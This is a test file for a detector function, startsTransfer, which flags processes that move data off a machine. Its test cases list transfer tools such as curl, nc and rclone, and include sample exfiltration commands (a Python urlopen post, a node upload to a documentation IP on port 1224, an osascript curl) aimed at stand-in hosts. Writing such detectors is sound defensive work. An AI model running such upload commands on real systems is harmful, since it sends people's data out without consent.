import { describe, expect, it } from 'vitest';
import { startsTransfer } from './transfer-tools.js';

describe('startsTransfer', () => {
  it('takes transfer tools by name, wherever they live', () => {
    for (const p of ['/usr/bin/curl', '/opt/homebrew/bin/wget', '/usr/bin/nc', '/usr/bin/scp', '/usr/bin/rsync', '/tmp/.x/rclone']) expect(startsTransfer(p, [p]), p).toBe(true);
  });

  it('takes any program given a URL (a script interpreter posting with its own library)', () => {
    expect(startsTransfer('/usr/bin/python3', ['python3', '-c', 'import urllib.request as u; u.urlopen("https://x.example/up", data=b"…")'])).toBe(true);
    expect(startsTransfer('/opt/homebrew/bin/node', ['node', 'up.js', 'http://203.0.113.9:1224/uploads'])).toBe(true);
    expect(startsTransfer('/usr/bin/osascript', ['osascript', '-e', 'do shell script "curl FTP://h/x"'])).toBe(true);
  });

  it('not other programs, nor a URL in argv[0] alone', () => {
    expect(startsTransfer('/bin/ls', ['ls', '-la', '/tmp'])).toBe(false);
    expect(startsTransfer('/usr/bin/ditto', ['ditto', '-c', '-k', '/Users/a/Documents', '/tmp/d.zip'])).toBe(false);
    expect(startsTransfer('/usr/local/bin/tool', ['https://argv0.example'])).toBe(false);
    expect(startsTransfer('/bin/zsh', undefined)).toBe(false);
  });

  it('reads 64 arguments, and 4 KiB of each: argv is the attacker\'s', () => {
    const filler = Array.from({ length: 70 }, (_, i) => `a${i}`);
    expect(startsTransfer('/bin/sh', ['sh', ...filler.slice(0, 62), 'https://in.example'])).toBe(true);
    expect(startsTransfer('/bin/sh', ['sh', ...filler, 'https://beyond.example'])).toBe(false);
    expect(startsTransfer('/bin/sh', ['sh', 'x'.repeat(5000) + 'https://late.example'])).toBe(false);
    expect(startsTransfer('/bin/sh', ['sh', 'x'.repeat(4000) + 'https://early.example'])).toBe(true);
  });
});
